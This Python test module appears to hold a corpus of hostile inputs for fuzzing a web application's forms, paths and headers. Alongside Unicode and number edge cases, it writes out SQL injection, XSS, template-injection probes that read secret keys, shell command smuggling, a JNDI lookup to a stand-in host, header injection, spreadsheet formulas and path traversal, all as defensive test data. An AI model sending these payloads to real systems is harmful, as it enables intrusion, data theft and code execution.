"""What a hostile visitor types: each value by a name, as the bytes that are sent.

Whatever tries to be more than text carries MARK, so that it is found again wherever it ends up.
"""

from zlib import crc32

MARK = "kwaad7"
PRODUCT = "1787569"
"""1337 × 1337: stands on a page only when a template in a value was worked out."""

FEW = 6
"""How many values each field, name, part of an address and header gets in an ordinary run."""

_UNICODE = {
    "empty": "",
    "only spaces": " \t\u00a0\u3000 ",
    "NUL": "\x00",
    "NUL within": f"a\x00{MARK}",
    "control characters": "\x01\x08\x0b\x1b[31m\x7f\x85",
    "bidi override": f"\u202e{MARK}\u202d",
    "bidi isolates": f"\u2066{MARK}\u2067\u2068\u2069",
    "zero width": f"{MARK}\u200b\u200c\u200d\u2060\u00ad",
    "accent after zero width": "e\u200b\u0301",
    "combining flood": "e" + "\u0301\u0316\u20dd" * 200,
    "only combining": "\u0301" * 30,
    "emoji with joiners": "🏳️‍🌈👩‍👩‍👧‍👦",
    "flags and skin": "🇳🇱👋🏿",
    "right to left": "مرحبا",
    "byte order mark": f"\ufeff{MARK}",
    "line separators": f"a\u2028{MARK}\u2029b",
    "non-characters": "\ufffe\uffff\U0001ffff\ufdd0",
    "private use and tags": "\ue000\U000f0000\U000e0041",
    "full-width digits": "６４１１",
    "Arabic digits": "٣",
    "Turkish i": "İıI",
    "ligatures and ß": "ﬁ ß ẞ ǅ",
    "long in NFC": "\ufb2c\u0344" * 12,
    "lone surrogate": b"\xed\xa0\xbd",
    "invalid UTF-8": b"\xff\xfe\x80abc",
    "overlong slash": b"..\xc0\xaf..\xc0\xafetc",
    "cut short": b"caf\xc3",
    "latin-1": b"caf\xe9",
    "1 MB": "x" * 1_000_000,
    "31 letters": "x" * 31,
    "3000 quotes": '"' * 3000,
}
_CODE = {
    "SQL drop": "'; DROP TABLE signup; --",
    "SQL or": "' OR '1'='1",
    "SQL union": "1 UNION SELECT version FROM public_version--",
    "SQL sleep": "1); SELECT pg_sleep(9)--",
    "LIKE signs": "%_\\",
    "script": f"<script>{MARK}()</script>",
    "script out of a box": f'"></textarea></title><script>{MARK}()</script>',
    "comment": f"--><!-- {MARK}",
    "attribute, double": f'" onmouseover="{MARK}',
    "attribute, single": f"' onfocus='{MARK}' autofocus='",
    "attribute, bare": f" autofocus onfocus={MARK} ",
    "image": f"<img src={MARK} onerror={MARK}()>",
    "svg": f"<svg/onload={MARK}()>",
    "bold": f"\n\n<b id={MARK}>",
    "entities": f"&lt;script&gt;{MARK}&#x3c;b&#62;",
    "script address": f"javascript:{MARK}()",
    "data address": f"data:text/html,<script>{MARK}()</script>",
    "Jinja": "{{ 1337*1337 }}",
    "Jinja statement": "{% set x = 1337*1337 %}{{x}}{# #}",
    "Jinja reaching out": "{{ config.SECRET_KEY }}{{ ''.__class__.__mro__ }}",
    "other templates": "${1337*1337}#{1337*1337}<%= 1337*1337 %>*{1337*1337}",
    "percent formats": "%s%n%d%(x)s%(num)s%",
    "brace formats": "{0}{x.__class__}{",
    "shell": f"$(touch /tmp/{MARK})`id`;|&",
    "log look-up": f"${{jndi:ldap://{MARK}.example/x}}",
    "header": f"a\r\nSet-Cookie: {MARK}=1",
    "header, bare newline": f"a\nLocation: https://{MARK}.example",
    "header, wide newline": f"嘊嘍Set-Cookie:{MARK}=1",
    "formula": f'=HYPERLINK("//{MARK}")',
    "formula, plus": "+1+1",
    "formula, minus": "-1+1",
    "formula, at": "@SUM(A1)",
    "formula, tab": "\t=1+1",
    "formula, return": "\r=1+1",
    "mail header": f"a@b.nl\r\nBcc: {MARK}@b.nl",
    "many mail addresses": f"a@b.nl,{MARK}@b.nl",
    "markdown link": f"[x](javascript:{MARK})",
}
_TYPES = {
    "zero": "0",
    "one": "1",
    "minus one": "-1",
    "a fraction": "1.5",
    "an exponent": "1e999",
    "an underscore": "1_000",
    "hexadecimal": "0x10",
    "2 to the 31st": "2147483648",
    "2 to the 63rd": "9223372036854775808",
    "40 digits": "9" * 40,
    "5000 digits": "9" * 5000,
    "NaN": "NaN",
    "true": "true",
    "null": "null",
    "a list": "[]",
    "an object": '{"a": {"$gt": 1}}',
    "no such day": "2026-02-30",
    "day zero": "0000-00-00",
    "far away year": "99999-01-01",
    "skipped hour": "2026-03-29T02:30",
    "cursor far away": "9999999999-999999999",
    "cursor zero": "000000000-0",
}
_PATHS = {
    "up": f"../../../etc/{MARK}",
    "up, encoded twice": f"%2e%2e%2f%252e{MARK}",
    "up, backslashes": f"..\\..\\{MARK}",
    "another host": f"//{MARK}.example/",
    "another host, backslash": f"/\\{MARK}.example/",
    "another address": f"https://{MARK}.example/?x=1#y",
    "someone at": f"@{MARK}.example",
    "a parameter": f";{MARK}=1",
    "a program": f"{MARK}.php",
    "dots": ".",
    "two dots": "..",
    "a hidden file": ".git/config",
    "query and fragment": f"?a=b&c=d#{MARK}",
}

VALUES: dict[str, bytes] = {
    name: value if isinstance(value, bytes) else value.encode("utf-8", "surrogatepass")
    for name, value in {**_UNICODE, **_CODE, **_TYPES, **_PATHS}.items()
}


def some(of: str, count: int) -> dict[str, bytes]:
    """Return `count` of the values for what is named `of`: the same every run.

    Each name starts elsewhere in the list, so that together they come past all of it.
    """
    names = list(VALUES)
    start = crc32(of.encode())
    return {
        name: VALUES[name]
        for name in (names[(start + step * 7) % len(names)] for step in range(count))
    }


def seen(value: bytes) -> str:
    """Return a value as the site reads it from a form: what is no UTF-8 stays as it was escaped."""
    return value.decode("utf-8", "werkzeug.url_quote")
